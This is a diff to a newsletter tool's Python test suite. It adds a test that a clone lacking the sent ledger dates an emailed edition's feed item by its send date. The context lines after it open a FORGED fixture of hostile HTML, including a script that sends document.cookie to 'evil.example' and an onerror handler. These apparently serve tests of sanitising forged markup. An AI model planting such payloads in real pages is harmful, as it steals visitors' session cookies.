@@ -887,6 +887,33 @@ def test_a_clone_without_the_ledger_builds_the_emailed_week_as_the_clone_that_se
         server.__exit__(None, None, None)
 
 
+def test_a_clone_without_the_ledger_dates_the_emailed_edition_as_sent_when_a_late_entry_dates_its_post(
+    tmp_path, monkeypatch
+):
+    """An edition sent before its period was over is dated by its latest entry: a late talk dated
+    the 20th dated the post, and the clone without the ledger, whose builds all hold it, gave the
+    editions feed's item the 20th, where the clone that sent it says the 14th it went out with."""
+    import datetime as dt
+
+    from newsletter import render
+
+    def in_progress(edition, settings):  # (today in its period: dated by its latest entry)
+        return dt.datetime.combine(max(e.date for e in edition.entries), dt.time(0), tzinfo=dt.UTC)
+
+    monkeypatch.setattr(render, "publication_date", in_progress)
+    with SmtpServer() as server:
+        root = workspace(tmp_path / "sent-here", server.settings())
+        send(root, PERIOD, yes=True, env={})
+    write_entry(root, "late", 20, "A late talk")
+    built(root, PERIOD)
+    other = clone_without_the_ledger(root, tmp_path / "other")
+    built(other, PERIOD)
+    feeds = Path("site/static/feeds/editions.json")
+    [item] = json.loads((other / feeds).read_text())["items"]
+    assert item["date_published"].startswith("2021-02-14") and "A late talk" not in item["content_html"]
+    assert (other / feeds).read_bytes() == (root / feeds).read_bytes()
+
+
 FORGED = {
     "a script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
     "an on* attribute": '<img src="https://example.com/x.png" alt="" width="1" onerror="alert(1)">',
